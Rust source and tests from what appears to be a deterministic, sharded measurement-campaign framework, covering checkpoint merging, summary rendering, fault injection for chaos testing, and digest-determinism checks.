                Some(e) => format!("\"{}\"", json_escape(e)),
                None => "null".into(),
            };
            let _ = write!(
                out,
                "{}\n    {{ \"shard\": {}, \"planned\": {}, \"records\": {}, \"complete\": {}, \
                 \"quarantined\": {}, \"attempts\": {}, \"last_error\": {} }}",
                if i > 0 { "," } else { "" },
                c.shard,
                c.planned,
                c.records,
                c.complete,
                c.quarantined,
                c.attempts,
                last
            );
        }
        // "explain" sits between "coverage" and "fields": after the
        // top-level "digest" (CI greps the first occurrence) and before
        // the full per-field dump, so explain-only consumers can stop
        // reading early.
        out.push_str("\n  ],\n  \"explain\": ");
        out.push_str(&self.aggregate.render_explain_json("    "));
        out.push_str(",\n  \"fields\": ");
        out.push_str(&self.aggregate.render_json("    "));
        out.push_str("\n}\n");
        out
    }

    /// A short human-readable report for the CLI.
    pub fn render_text(&self) -> String {
        let mut out = format!(
            "campaign {}  scale={}  seed={}  shards={}\n  records: {}{}\n  digest:  {}\n",
            self.scenario,
            self.scale_label,
            self.master_seed,
            self.shards,
            self.records,
            if self.complete { String::new() } else { "  (PARTIAL)".into() },
            self.digest
        );
        for s in &self.shard_summaries {
            out.push_str(&format!(
                "  shard {:>2}: {:>7} records  {}\n",
                s.shard, s.records, s.digest
            ));
        }
        if !self.complete {
            out.push_str("  coverage:\n");
            for c in self.coverage.iter().filter(|c| !c.complete) {
                out.push_str(&format!(
                    "    shard {:>2}: {}/{} records{}{}\n",
                    c.shard,
                    c.records,
                    c.planned,
                    if c.quarantined {
                        format!("  QUARANTINED after {} attempts", c.attempts)
                    } else {
                        String::new()
                    },
                    match &c.last_error {
                        Some(e) => format!("  ({})", e.lines().next().unwrap_or_default()),
                        None => String::new(),
                    },
                ));
            }
        }
        out
    }
}

/// Streams the shard checkpoints in shard order through the digest and the
/// aggregators, verifies counts against the plan, and writes
/// `summary.json`. Every shard must be complete — this is the strict
/// merge the unsupervised executor uses.
///
/// # Errors
///
/// I/O failures, schema violations, or a shard whose record count does not
/// match its planned range (an incomplete campaign).
pub fn merge(
    scenario: &'static Scenario,
    scale_label: &str,
    master_seed: u64,
    dir: &Path,
    ranges: &[std::ops::Range<usize>],
) -> Result<Summary, CampaignError> {
    merge_with_quarantine(scenario, scale_label, master_seed, dir, ranges, &[])
}

/// The quarantine-aware merge the supervisor uses: shards listed in
/// `quarantined` may fall short of their planned range (their clean
/// checkpoint prefix — possibly empty — still merges); every other shard
/// must be complete. The summary is marked partial iff any shard fell
/// short, and the coverage report carries each quarantined shard's
/// attempt count and final failure.
///
/// # Errors
///
/// I/O failures, schema violations, or a *non-quarantined* shard short of
/// its planned range.
pub fn merge_with_quarantine(
    scenario: &'static Scenario,
    scale_label: &str,
    master_seed: u64,
    dir: &Path,
    ranges: &[std::ops::Range<usize>],
    quarantined: &[QuarantinedShard],
) -> Result<Summary, CampaignError> {
    let mut total_digest = Digest::new();
    let mut aggregate = Aggregate::new(scenario.schema);
    let mut shard_summaries = Vec::with_capacity(ranges.len());
    let mut coverage = Vec::with_capacity(ranges.len());
    let mut records = 0usize;
    let mut complete = true;
    for (k, range) in ranges.iter().enumerate() {
        let path = checkpoint::shard_path(dir, k);
        let planned = range.end - range.start;
        let quarantine = quarantined.iter().find(|q| q.shard == k);
        let mut shard_digest = Digest::new();
        let mut count = 0usize;
        if planned > 0 && path.exists() {
            let file = File::open(&path)
                .map_err(|e| CampaignError::io(format!("open {}", path.display()), e))?;
            let mut reader = BufReader::new(file);
            let mut line = String::new();
            loop {
                line.clear();
                let n = reader
                    .read_line(&mut line)
                    .map_err(|e| CampaignError::io(format!("read {}", path.display()), e))?;
                if n == 0 {
                    break;
                }
                let body = line.strip_suffix('\n').ok_or_else(|| CampaignError::Schema {
                    path: path.clone(),
                    record: count + 1,
                    detail: "torn final line (recover before merging)".into(),
                })?;
                let record = decode_line(scenario.schema, body).map_err(|e| {
                    CampaignError::Schema { path: path.clone(), record: count + 1, detail: e }
                })?;
                total_digest.update_line(body);
                shard_digest.update_line(body);
                aggregate.push(&record);
                count += 1;
            }
        }
        if count != planned && quarantine.is_none() {
            return Err(CampaignError::IncompleteShard { shard: k, have: count, planned });
        }
        let shard_complete = count == planned;
        complete &= shard_complete;
        records += count;
        shard_summaries.push(ShardSummary { shard: k, records: count, digest: shard_digest.hex() });
        coverage.push(ShardCoverage {
            shard: k,
            planned,
            records: count,
            complete: shard_complete,
            quarantined: quarantine.is_some(),
            attempts: quarantine.map_or(0, |q| q.attempts),
            last_error: quarantine.map(|q| q.last_error.clone()),
        });
    }
    let summary = Summary {
        scenario: scenario.name,
        scale_label: scale_label.to_owned(),
        master_seed,
        shards: ranges.len(),
        records,
        complete,
        digest: total_digest.hex(),
        shard_summaries,
        coverage,
        aggregate,
    };
    std::fs::write(checkpoint::summary_path(dir), summary.render_json())
        .map_err(|e| CampaignError::io("write summary.json", e))?;
    Ok(summary)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn json_escape_handles_control_and_quote_chars() {
        assert_eq!(json_escape("plain"), "plain");
        assert_eq!(json_escape("a\"b\\c\nd"), "a\\\"b\\\\c\\nd");
        assert_eq!(json_escape("\u{1}"), "\\u0001");
    }
}
