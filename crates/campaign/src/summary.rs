//! Deterministic merge + online aggregation: the coordinator's final pass.
//!
//! After every shard's checkpoint is complete, the coordinator streams the
//! shard files **in shard order** — which, with contiguous shard ranges,
//! is exactly global trial order — feeding each line to the campaign
//! digest and the per-field aggregators. Memory stays O(1) in the trial
//! count: one line buffer, five P² markers per quantile, a handful of
//! counters. The result is written as `summary.json` next to the shards.

use std::fs::File;
use std::io::{BufRead, BufReader};
use std::path::Path;

use crate::checkpoint;
use crate::digest::Digest;
use crate::record::decode_line;
use crate::registry::Scenario;
use crate::stats::Aggregate;

/// One shard's slice of the merged stream.
#[derive(Debug, Clone)]
pub struct ShardSummary {
    /// Shard index.
    pub shard: usize,
    /// Records the shard contributed.
    pub records: usize,
    /// Digest of the shard's own stream.
    pub digest: String,
}

/// The merged result of a campaign run.
#[derive(Debug, Clone)]
pub struct Summary {
    /// Scenario name.
    pub scenario: &'static str,
    /// Scale label ("quick" / "paper" / "custom").
    pub scale_label: String,
    /// Master seed.
    pub master_seed: u64,
    /// Shard count.
    pub shards: usize,
    /// Total records merged.
    pub records: usize,
    /// Digest of the merged stream — the campaign's identity.
    pub digest: String,
    /// Per-shard slices.
    pub shard_summaries: Vec<ShardSummary>,
    /// Online per-field aggregates.
    pub aggregate: Aggregate,
}

impl Summary {
    /// Renders `summary.json` (validated well-formed by the test suite).
    pub fn render_json(&self) -> String {
        let mut out = String::new();
        use std::fmt::Write as _;
        let _ = write!(
            out,
            "{{\n  \"campaign\": \"{}\",\n  \"scale\": \"{}\",\n  \"master_seed\": {},\n  \
             \"shards\": {},\n  \"records\": {},\n  \"digest\": \"{}\",\n  \"shard_digests\": [",
            self.scenario,
            self.scale_label,
            self.master_seed,
            self.shards,
            self.records,
            self.digest
        );
        for (i, s) in self.shard_summaries.iter().enumerate() {
            let _ = write!(
                out,
                "{}\n    {{ \"shard\": {}, \"records\": {}, \"digest\": \"{}\" }}",
                if i > 0 { "," } else { "" },
                s.shard,
                s.records,
                s.digest
            );
        }
        out.push_str("\n  ],\n  \"fields\": ");
        out.push_str(&self.aggregate.render_json("    "));
        out.push_str("\n}\n");
        out
    }

    /// A short human-readable report for the CLI.
    pub fn render_text(&self) -> String {
        let mut out = format!(
            "campaign {}  scale={}  seed={}  shards={}\n  records: {}\n  digest:  {}\n",
            self.scenario,
            self.scale_label,
            self.master_seed,
            self.shards,
            self.records,
            self.digest
        );
        for s in &self.shard_summaries {
            out.push_str(&format!(
                "  shard {:>2}: {:>7} records  {}\n",
                s.shard, s.records, s.digest
            ));
        }
        out
    }
}

/// Streams the shard checkpoints in shard order through the digest and the
/// aggregators, verifies counts against the plan, and writes
/// `summary.json`.
///
/// # Errors
///
/// I/O failures, schema violations, or a shard whose record count does not
/// match its planned range (an incomplete campaign).
pub fn merge(
    scenario: &'static Scenario,
    scale_label: &str,
    master_seed: u64,
    dir: &Path,
    ranges: &[std::ops::Range<usize>],
) -> Result<Summary, String> {
    let mut total_digest = Digest::new();
    let mut aggregate = Aggregate::new(scenario.schema);
    let mut shard_summaries = Vec::with_capacity(ranges.len());
    let mut records = 0usize;
    for (k, range) in ranges.iter().enumerate() {
        let path = checkpoint::shard_path(dir, k);
        let planned = range.end - range.start;
        let mut shard_digest = Digest::new();
        let mut count = 0usize;
        if planned > 0 {
            let file = File::open(&path).map_err(|e| format!("{}: {e}", path.display()))?;
            let mut reader = BufReader::new(file);
            let mut line = String::new();
            loop {
                line.clear();
                let n =
                    reader.read_line(&mut line).map_err(|e| format!("{}: {e}", path.display()))?;
                if n == 0 {
                    break;
                }
                let body = line.strip_suffix('\n').ok_or_else(|| {
                    format!("{}: torn final line (recover before merging)", path.display())
                })?;
                let record = decode_line(scenario.schema, body)
                    .map_err(|e| format!("{} record {}: {e}", path.display(), count + 1))?;
                total_digest.update_line(body);
                shard_digest.update_line(body);
                aggregate.push(&record);
                count += 1;
            }
        }
        if count != planned {
            return Err(format!(
                "shard {k}: {count} records, planned {planned} — campaign incomplete"
            ));
        }
        records += count;
        shard_summaries.push(ShardSummary { shard: k, records: count, digest: shard_digest.hex() });
    }
    let summary = Summary {
        scenario: scenario.name,
        scale_label: scale_label.to_owned(),
        master_seed,
        shards: ranges.len(),
        records,
        digest: total_digest.hex(),
        shard_summaries,
        aggregate,
    };
    std::fs::write(checkpoint::summary_path(dir), summary.render_json())
        .map_err(|e| format!("write summary.json: {e}"))?;
    Ok(summary)
}
