//! Deterministic fault injection for the supervision chaos harness.
//!
//! A [`FaultSpec`] is carried to a `campaign worker` subprocess as a CLI
//! flag (`--fault crash-after=2`), so every injected failure is a pure
//! function of the worker's arguments — no wall-clock randomness, no
//! signal races, no "kill it and hope the timing lands". That is what
//! lets the chaos matrix in `crates/campaign/tests/chaos.rs` assert, for
//! every fault × retry combination, that the supervised run's merged
//! digest is **bit-identical** to the fault-free run.
//!
//! The counters are relative to the records *this worker invocation*
//! writes (after `--skip`), so a fault re-injected on a retry fires at a
//! well-defined point of the resumed stream too.
//!
//! | spec               | behaviour                                                       |
//! |--------------------|-----------------------------------------------------------------|
//! | `crash-after=K`    | write K records, then exit with code 101                        |
//! | `stall-after=K`    | write K records, then sleep forever (the stall-timeout target)  |
//! | `torn-write[=K]`   | write K records, append a torn half-line, exit 103              |
//! | `garbage-record[=K]`| write K records, emit one schema-invalid line, keep going      |
//! | `exit=N`           | exit immediately with code N, before any record                 |

use crate::error::CampaignError;

/// One injectable worker fault. See the module table for semantics.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FaultSpec {
    /// Exit(101) after this many records.
    CrashAfter(usize),
    /// Stop making progress (sleep forever) after this many records.
    StallAfter(usize),
    /// Append a torn (newline-less) half-record after this many records,
    /// then exit(103) — exactly the file state a mid-write kill leaves.
    TornWrite(usize),
    /// Emit one complete but schema-invalid line (checkpoint + stdout)
    /// after this many records, then continue normally — the mid-file
    /// corruption + corrupt-stream detection case.
    GarbageRecord(usize),
    /// Exit with this code before writing anything.
    Exit(i32),
}

/// The half-line a `torn-write` fault appends (no terminating newline).
pub const TORN_BYTES: &[u8] = b"{\"torn\":";

/// The schema-invalid line a `garbage-record` fault emits.
pub const GARBAGE_LINE: &str = "{\"fault\":\"garbage-record\"}";

impl FaultSpec {
    /// Parses the `--fault` wire form (see the module table). `torn-write`
    /// and `garbage-record` default `K` to 1 when given bare.
    ///
    /// # Errors
    ///
    /// [`CampaignError::BadSpec`] on anything unrecognised.
    pub fn parse(spec: &str) -> Result<FaultSpec, CampaignError> {
        let bad = || CampaignError::BadSpec(format!("bad fault spec {spec:?}"));
        let (name, value) = match spec.split_once('=') {
            Some((n, v)) => (n, Some(v)),
            None => (spec, None),
        };
        let count = |default: usize| -> Result<usize, CampaignError> {
            match value {
                None => Ok(default),
                Some(v) => v.parse().map_err(|_| bad()),
            }
        };
        match name {
            "crash-after" => Ok(FaultSpec::CrashAfter(count(0)?)),
            "stall-after" => Ok(FaultSpec::StallAfter(count(0)?)),
            "torn-write" => Ok(FaultSpec::TornWrite(count(1)?)),
            "garbage-record" => Ok(FaultSpec::GarbageRecord(count(1)?)),
            "exit" => {
                let v = value.ok_or_else(bad)?;
                let code: i32 = v.parse().map_err(|_| bad())?;
                if code == 0 {
                    // exit=0 would be indistinguishable from success with
                    // a short stream — reject it rather than inject a
                    // fault the supervisor classifies differently.
                    return Err(bad());
                }
                Ok(FaultSpec::Exit(code))
            }
            _ => Err(bad()),
        }
    }

    /// Renders the spec back to its `--fault` wire form
    /// (`parse(render(s)) == s`).
    pub fn render(&self) -> String {
        match self {
            FaultSpec::CrashAfter(k) => format!("crash-after={k}"),
            FaultSpec::StallAfter(k) => format!("stall-after={k}"),
            FaultSpec::TornWrite(k) => format!("torn-write={k}"),
            FaultSpec::GarbageRecord(k) => format!("garbage-record={k}"),
            FaultSpec::Exit(n) => format!("exit={n}"),
        }
    }
}

/// One shard's planned fault: inject `fault` on the shard's first
/// `times` worker spawns (attempts `0..times`), run clean afterwards.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FaultEntry {
    /// Target shard.
    pub shard: usize,
    /// What to inject.
    pub fault: FaultSpec,
    /// How many consecutive attempts get the fault. With `times` ≤
    /// `max_retries` the shard heals; with `times` > `max_retries` it is
    /// quarantined — both ends of the chaos matrix.
    pub times: usize,
}

/// The coordinator-side fault plan: which shards get which faults, for
/// how many attempts. Empty by default (production supervision).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FaultPlan {
    /// The planned injections (at most one per shard is honoured; the
    /// first match wins).
    pub entries: Vec<FaultEntry>,
}

impl FaultPlan {
    /// A plan with no injected faults.
    pub fn none() -> FaultPlan {
        FaultPlan::default()
    }

    /// Parses one coordinator CLI entry: `<shard>:<spec>` or
    /// `<shard>:<spec>:x<times>` (e.g. `1:crash-after=2:x2`), appending
    /// it to the plan.
    ///
    /// # Errors
    ///
    /// [`CampaignError::BadSpec`] on malformed input.
    pub fn push_cli(&mut self, entry: &str) -> Result<(), CampaignError> {
        let bad =
            || CampaignError::BadSpec(format!("bad --fault {entry:?} (want shard:spec[:xN])"));
        let (shard, rest) = entry.split_once(':').ok_or_else(bad)?;
        let shard: usize = shard.parse().map_err(|_| bad())?;
        let (spec, times) = match rest.rsplit_once(":x") {
            Some((spec, times)) => (spec, times.parse().map_err(|_| bad())?),
            None => (rest, 1),
        };
        if times == 0 {
            return Err(bad());
        }
        self.entries.push(FaultEntry { shard, fault: FaultSpec::parse(spec)?, times });
        Ok(())
    }

    /// The fault to inject when spawning `shard`'s worker for (0-based)
    /// `attempt`, if any.
    pub fn fault_for(&self, shard: usize, attempt: usize) -> Option<FaultSpec> {
        self.entries
            .iter()
            .find(|e| e.shard == shard)
            .filter(|e| attempt < e.times)
            .map(|e| e.fault)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn specs_round_trip_through_the_wire_form() {
        for spec in [
            FaultSpec::CrashAfter(0),
            FaultSpec::CrashAfter(7),
            FaultSpec::StallAfter(2),
            FaultSpec::TornWrite(3),
            FaultSpec::GarbageRecord(1),
            FaultSpec::Exit(42),
            FaultSpec::Exit(-1),
        ] {
            assert_eq!(FaultSpec::parse(&spec.render()).expect("parses"), spec);
        }
    }

    #[test]
    fn bare_forms_default_sensibly() {
        assert_eq!(FaultSpec::parse("torn-write").expect("parses"), FaultSpec::TornWrite(1));
        assert_eq!(
            FaultSpec::parse("garbage-record").expect("parses"),
            FaultSpec::GarbageRecord(1)
        );
        assert_eq!(FaultSpec::parse("crash-after").expect("parses"), FaultSpec::CrashAfter(0));
    }

    #[test]
    fn malformed_specs_are_rejected() {
        for bad in ["", "crash-after=x", "exit", "exit=0", "exit=zero", "meteor-strike"] {
            assert!(FaultSpec::parse(bad).is_err(), "should reject {bad:?}");
        }
    }

    #[test]
    fn plan_cli_entries_parse_and_select() {
        let mut plan = FaultPlan::none();
        plan.push_cli("1:crash-after=2").expect("parses");
        plan.push_cli("3:stall-after=0:x2").expect("parses");
        assert_eq!(plan.fault_for(1, 0), Some(FaultSpec::CrashAfter(2)));
        assert_eq!(plan.fault_for(1, 1), None, "single-shot fault clears after one attempt");
        assert_eq!(plan.fault_for(3, 1), Some(FaultSpec::StallAfter(0)));
        assert_eq!(plan.fault_for(3, 2), None);
        assert_eq!(plan.fault_for(0, 0), None);
        for bad in ["crash-after=1", "x:crash-after=1", "1:crash-after=1:x0", "1:nope"] {
            assert!(FaultPlan::none().push_cli(bad).is_err(), "should reject {bad:?}");
        }
    }

    #[test]
    fn garbage_line_is_complete_but_schema_invalid() {
        use crate::record::{decode_line, Field, FieldKind};
        const SCHEMA: &crate::record::Schema = &[Field { name: "x", kind: FieldKind::U64 }];
        assert!(decode_line(SCHEMA, GARBAGE_LINE).is_err());
        assert!(!GARBAGE_LINE.contains('\n'));
    }
}
