//! Differential test: the registry's streaming histogram aggregation vs.
//! the legacy in-process survey bucketing.
//!
//! `fig6`/`fig7` used to be produced two ways — the `timeshift::experiments`
//! drivers bucketing materialized sample vectors, and the campaign registry
//! streaming records through [`campaign::stats::Aggregate`]. Both paths now
//! funnel into `runner::StreamHist` reading the same
//! [`timeshift::experiments::figspec`] constants; this test pins them
//! bucket-for-bucket so a change to either can never silently diverge the
//! paper artifacts.

use campaign::registry;
use campaign::stats::{Aggregate, FieldAgg};
use timeshift::experiments::{self, figspec, Scale};

/// Streams every `fig6` campaign record through the aggregate and returns
/// it alongside the legacy survey run at the same scale.
fn run_both(scale: Scale) -> (Aggregate, measure::prelude::SurveyResult) {
    let survey = experiments::resolver_survey(scale);
    let scenario = registry::find("fig6").expect("fig6 registered");
    let campaign = scenario.build(scale);
    let mut agg = Aggregate::new(scenario.schema);
    for idx in 0..campaign.trials() {
        agg.push(&campaign.run_trial(idx));
    }
    (agg, survey)
}

fn hist_field(agg: &Aggregate, field: usize) -> &runner::StreamHist {
    match &agg.fields[field].0 {
        FieldAgg::Hist(h) => &h.hist,
        other => panic!("field {field} is not a histogram aggregate: {other:?}"),
    }
}

#[test]
fn fig6_ttl_buckets_match_legacy_survey() {
    let scale = Scale::quick();
    let (agg, survey) = run_both(scale);
    let legacy = survey.ttl_histogram(figspec::FIG6_BUCKET, figspec::FIG6_MAX);

    let ttl = hist_field(&agg, 2); // apex_a_ttl
    assert!(ttl.count() > 0, "quick scale must cache at least one apex record");
    assert_eq!(ttl.counts().len(), legacy.len(), "bucket count");
    for ((lo, n), &(legacy_lo, legacy_n)) in ttl.bins().zip(&legacy) {
        assert_eq!(lo as u32, legacy_lo, "bucket origin");
        assert_eq!(n, legacy_n as u64, "TTL bucket at {lo}");
    }
}

#[test]
fn fig7_timing_buckets_match_legacy_survey() {
    let scale = Scale::quick();
    let (agg, survey) = run_both(scale);
    let legacy = survey.timing_histogram(figspec::FIG7_BUCKET_MS, figspec::FIG7_CLAMP_MS);

    let timing = hist_field(&agg, 4); // timing_diff_ms
    assert!(timing.count() > 0, "quick scale must measure at least one timing diff");
    assert_eq!(timing.counts().len(), legacy.len(), "bucket count");
    for ((lo, n), &(legacy_lo, legacy_n)) in timing.bins().zip(&legacy) {
        assert_eq!(lo.to_bits(), legacy_lo.to_bits(), "bucket origin");
        assert_eq!(n, legacy_n as u64, "timing bucket at {lo}");
    }
}
