//! Campaign determinism: the merged record stream — and therefore the
//! campaign digest — must be bit-identical for any shard count, for
//! in-process vs. subprocess execution, and across a mid-campaign kill +
//! resume. These are the ISSUE's acceptance checks for `table2` and
//! `fig6`, run at reduced-but-representative scales.

use std::io::{BufRead, BufReader};
use std::path::PathBuf;
use std::process::{Command, Stdio};

use campaign::exec::{run_campaign, scale_spec, CampaignConfig, ExecMode};
use campaign::{checkpoint, registry};
use timeshift::experiments::Scale;

/// The campaign binary (built by cargo before integration tests run).
fn campaign_exe() -> PathBuf {
    PathBuf::from(env!("CARGO_BIN_EXE_campaign"))
}

fn tmp_dir(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("campaign-test-{}-{tag}", std::process::id()));
    std::fs::remove_dir_all(&dir).ok();
    dir
}

fn digest_of(
    scenario: &'static registry::Scenario,
    scale: Scale,
    shards: usize,
    mode: ExecMode,
    tag: &str,
) -> String {
    let dir = tmp_dir(tag);
    let config = CampaignConfig {
        scenario,
        scale,
        scale_label: "custom".into(),
        shards,
        workers: shards,
        mode,
        dir: dir.clone(),
        verbose: false,
    };
    let summary = run_campaign(&config).expect("campaign runs");
    std::fs::remove_dir_all(dir).ok();
    summary.digest
}

fn small_survey_scale() -> Scale {
    Scale { resolvers: 60, ..Scale::quick() }
}

/// fig6 at 1, 2 and 4 shards, in-process and subprocess: six runs, one
/// digest.
#[test]
fn fig6_digest_is_identical_across_shards_and_modes() {
    let scenario = registry::find("fig6").expect("registered");
    let scale = small_survey_scale();
    let baseline = digest_of(scenario, scale, 1, ExecMode::InProcess, "fig6-in-1");
    for shards in [2usize, 4] {
        let d =
            digest_of(scenario, scale, shards, ExecMode::InProcess, &format!("fig6-in-{shards}"));
        assert_eq!(d, baseline, "in-process digest diverged at {shards} shards");
    }
    for shards in [1usize, 2, 4] {
        let mode = ExecMode::Subprocess { exe: campaign_exe() };
        let d = digest_of(scenario, scale, shards, mode, &format!("fig6-sub-{shards}"));
        assert_eq!(d, baseline, "subprocess digest diverged at {shards} shards");
    }
}

/// table2 (the four end-to-end run-time attacks) at 1, 2 and 4 shards,
/// in-process and subprocess: one digest. The heavy acceptance check.
#[test]
fn table2_digest_is_identical_across_shards_and_modes() {
    let scenario = registry::find("table2").expect("registered");
    let scale = Scale::quick();
    let baseline = digest_of(scenario, scale, 1, ExecMode::InProcess, "t2-in-1");
    for shards in [2usize, 4] {
        let d = digest_of(scenario, scale, shards, ExecMode::InProcess, &format!("t2-in-{shards}"));
        assert_eq!(d, baseline, "in-process digest diverged at {shards} shards");
    }
    for shards in [2usize, 4] {
        let mode = ExecMode::Subprocess { exe: campaign_exe() };
        let d = digest_of(scenario, scale, shards, mode, &format!("t2-sub-{shards}"));
        assert_eq!(d, baseline, "subprocess digest diverged at {shards} shards");
    }
}

/// Kill a worker subprocess mid-shard, then resume the whole campaign:
/// the final digest must equal an uninterrupted run's.
#[test]
fn killed_worker_resumes_to_identical_digest() {
    let scenario = registry::find("fig6").expect("registered");
    let scale = small_survey_scale();
    let uninterrupted = digest_of(scenario, scale, 2, ExecMode::InProcess, "kill-ref");

    let dir = tmp_dir("kill-run");
    std::fs::create_dir_all(&dir).expect("mkdir");
    // The coordinator writes the manifest before spawning workers; mirror
    // that so the resume below recognises the directory as its own.
    checkpoint::check_manifest(&dir, "fig6", &scale_spec(&scale), 2).expect("manifest");
    // Launch shard 0's worker by hand (exactly as the coordinator would).
    let mut child = Command::new(campaign_exe())
        .arg("worker")
        .arg("--scenario")
        .arg("fig6")
        .arg("--shard")
        .arg("0/2")
        .arg("--skip")
        .arg("0")
        .arg("--checkpoint")
        .arg(checkpoint::shard_path(&dir, 0))
        .arg("--scale-spec")
        .arg(scale_spec(&scale))
        .stdout(Stdio::piped())
        .spawn()
        .expect("spawn worker");
    // Let it stream a few records, then kill it mid-campaign.
    {
        let stdout = child.stdout.as_mut().expect("stdout");
        let mut reader = BufReader::new(stdout);
        let mut line = String::new();
        for _ in 0..5 {
            line.clear();
            assert!(reader.read_line(&mut line).expect("read") > 0, "worker died early");
        }
    }
    child.kill().expect("kill worker");
    child.wait().expect("reap worker");
    let partial = checkpoint::recover(&checkpoint::shard_path(&dir, 0), scenario.schema)
        .expect("recoverable checkpoint")
        .records();
    assert!(partial >= 5, "at least the streamed records are checkpointed");
    assert!(partial < 30, "the kill landed mid-shard");

    // Resume: the coordinator picks up shard 0 at its first missing record
    // and runs shard 1 from scratch.
    let config = CampaignConfig {
        scenario,
        scale,
        scale_label: "custom".into(),
        shards: 2,
        workers: 2,
        mode: ExecMode::Subprocess { exe: campaign_exe() },
        dir: dir.clone(),
        verbose: false,
    };
    let summary = run_campaign(&config).expect("resume succeeds");
    assert_eq!(summary.digest, uninterrupted, "kill + resume must not change the stream");
    assert_eq!(summary.records, 60);
    std::fs::remove_dir_all(dir).ok();
}

/// A mismatched directory — different shard plan, seed, or scenario on
/// the same `--out` — is rejected by the manifest guard, not silently
/// merged under the new plan.
#[test]
fn mismatched_checkpoint_directory_is_rejected() {
    let scenario = registry::find("chronos_bound").expect("registered");
    let dir = tmp_dir("stale");
    let config = CampaignConfig::in_process(scenario, Scale::quick(), 4, dir.clone());
    run_campaign(&config).expect("first run");
    // Re-plan with 2 shards: old shard files would be reinterpreted as
    // the wrong global index ranges.
    let replanned = CampaignConfig::in_process(scenario, Scale::quick(), 2, dir.clone());
    let err = run_campaign(&replanned).expect_err("must refuse the replanned layout").to_string();
    assert!(err.contains("different campaign"), "{err}");
    // A different master seed on the same directory is just as wrong.
    let reseeded = Scale { seed: 7, ..Scale::quick() };
    let reseeded = CampaignConfig::in_process(scenario, reseeded, 4, dir.clone());
    let err = run_campaign(&reseeded).expect_err("must refuse the reseeded campaign").to_string();
    assert!(err.contains("different campaign"), "{err}");
    // Checkpoints without a manifest are not adopted either.
    std::fs::remove_file(campaign::checkpoint::manifest_path(&dir)).expect("drop manifest");
    let err = run_campaign(&config).expect_err("must refuse unknown provenance").to_string();
    assert!(err.contains("provenance"), "{err}");
    std::fs::remove_dir_all(dir).ok();
}

/// The final `metrics.json` snapshot is normalized: built purely from
/// the merged summary, so its bytes must be identical for any worker
/// count and for in-process vs. subprocess execution.
#[test]
fn final_metrics_snapshot_is_identical_across_workers_and_modes() {
    let scenario = registry::find("chronos_bound").expect("registered");
    let scale = Scale::quick();
    let mut runs: Vec<(String, String)> = Vec::new();
    let mut cases: Vec<(usize, ExecMode, String)> = Vec::new();
    for workers in [1usize, 2, 8] {
        cases.push((workers, ExecMode::InProcess, format!("metrics-in-{workers}")));
    }
    cases.push((2, ExecMode::Subprocess { exe: campaign_exe() }, "metrics-sub-2".into()));
    for (workers, mode, tag) in cases {
        let dir = tmp_dir(&tag);
        let config = CampaignConfig {
            scenario,
            scale,
            scale_label: "quick".into(),
            shards: 2,
            workers,
            mode,
            dir: dir.clone(),
            verbose: false,
        };
        run_campaign(&config).expect("campaign runs");
        let json =
            std::fs::read_to_string(campaign::metrics::metrics_path(&dir)).expect("metrics.json");
        std::fs::remove_dir_all(dir).ok();
        runs.push((tag, json));
    }
    let (baseline_tag, baseline) = &runs[0];
    bench::json::validate(baseline).expect("metrics.json must be well-formed");
    assert!(baseline.contains("\"final\": true"), "final snapshot must say so:\n{baseline}");
    assert!(baseline.contains("\"tick\": null"), "final snapshot carries no tick:\n{baseline}");
    for (tag, json) in &runs[1..] {
        assert_eq!(json, baseline, "{tag} metrics.json diverged from {baseline_tag}");
    }
}

/// The table2 summary carries the per-trial explain section (drop-reason
/// taxonomy), and the whole summary.json — explain included — is
/// bit-identical between in-process and subprocess runs.
#[test]
fn table2_explain_section_is_identical_across_modes() {
    let scenario = registry::find("table2").expect("registered");
    let scale = Scale::quick();
    let mut jsons = Vec::new();
    for (mode, tag) in [
        (ExecMode::InProcess, "explain-in"),
        (ExecMode::Subprocess { exe: campaign_exe() }, "explain-sub"),
    ] {
        let dir = tmp_dir(tag);
        let config = CampaignConfig {
            scenario,
            scale,
            scale_label: "quick".into(),
            shards: 2,
            workers: 2,
            mode,
            dir: dir.clone(),
            verbose: false,
        };
        run_campaign(&config).expect("campaign runs");
        let json = std::fs::read_to_string(checkpoint::summary_path(&dir)).expect("summary.json");
        std::fs::remove_dir_all(dir).ok();
        jsons.push(json);
    }
    let baseline = &jsons[0];
    bench::json::validate(baseline).expect("summary.json must be well-formed");
    assert!(baseline.contains("\"explain\":"), "summary carries an explain section");
    assert!(baseline.contains("explain_fail_stage"), "explain aggregates the failure stage");
    assert!(baseline.contains("explain_total_drops"), "explain aggregates the drop counts");
    assert_eq!(jsons[1], *baseline, "explain section diverged between exec modes");
}

/// The summary JSON artifact is well-formed (the same validator CI uses
/// for the BENCH artifacts) and carries the digest.
#[test]
fn summary_json_is_well_formed() {
    let scenario = registry::find("pmtud").expect("registered");
    let dir = tmp_dir("summary");
    let config = CampaignConfig::in_process(scenario, Scale::quick(), 3, dir.clone());
    let summary = run_campaign(&config).expect("campaign runs");
    let json = std::fs::read_to_string(checkpoint::summary_path(&dir)).expect("summary.json");
    bench::json::validate(&json).expect("summary.json must be well-formed");
    assert!(json.contains(&summary.digest));
    assert_eq!(json, summary.render_json());
    std::fs::remove_dir_all(dir).ok();
}
