//! Paper-scale population tests: the lazy per-index spec accessors must
//! be bit-identical to the materialized populations (pinned by a golden
//! digest at quick scale), and the `table4_snoop` campaign paths must
//! stay in bounded memory at the paper's 1 583 045-resolver scale — the
//! whole point of never materializing the population `Vec`.
//!
//! The two paper-scale memory tests are `#[ignore]`d (seconds of work and
//! Linux `/proc` parsing); run them with `cargo test --release -- --ignored`.

use campaign::digest::Digest;
use campaign::{exec, registry};
use measure::prelude::*;
use timeshift::experiments::{salts, Scale};

/// Digest of every lazily-derived spec of the quick-scale populations, in
/// index order. This must be stable across refactors of the generation
/// internals: the per-index accessors are the *definition* of the
/// populations now, and every checkpointed campaign digest depends on
/// them transitively.
fn quick_population_digest() -> String {
    let scale = Scale::quick();
    let mut d = Digest::new();
    for idx in 0..scale.resolvers {
        d.update_line(&format!("{:?}", open_resolver_at(scale.seed, idx)));
    }
    for idx in 0..scale.domains {
        d.update_line(&format!("{:?}", domain_nameserver_at(scale.seed ^ salts::FIG5_POP, idx)));
    }
    for idx in 0..scale.pool_servers {
